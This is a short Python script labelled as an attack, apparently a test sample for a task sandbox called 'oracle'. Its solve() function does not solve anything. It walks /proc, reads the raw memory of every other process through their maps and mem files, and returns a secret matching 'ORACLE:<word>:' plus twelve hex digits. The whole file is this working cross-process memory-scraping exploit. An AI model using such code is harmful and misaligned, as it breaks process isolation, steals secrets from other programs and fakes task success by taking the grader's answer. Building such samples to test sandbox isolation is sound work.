# Attack: the process reads the memory of every other one.
# task: oracle
# runs: always
import os
import re


def solve(word):
    pattern = re.compile(f"ORACLE:{word}:".encode() + rb"[0-9a-f]{12}")
    for number in filter(str.isdigit, os.listdir("/proc")):
        if int(number) == os.getpid():
            continue
        try:
            with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
                for line in maps:
                    low, high = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(low)
                    found = pattern.search(memory.read(high - low))
                    if found:
                        return found[0].decode()
        except (OSError, OverflowError, ValueError):
            continue
    return None
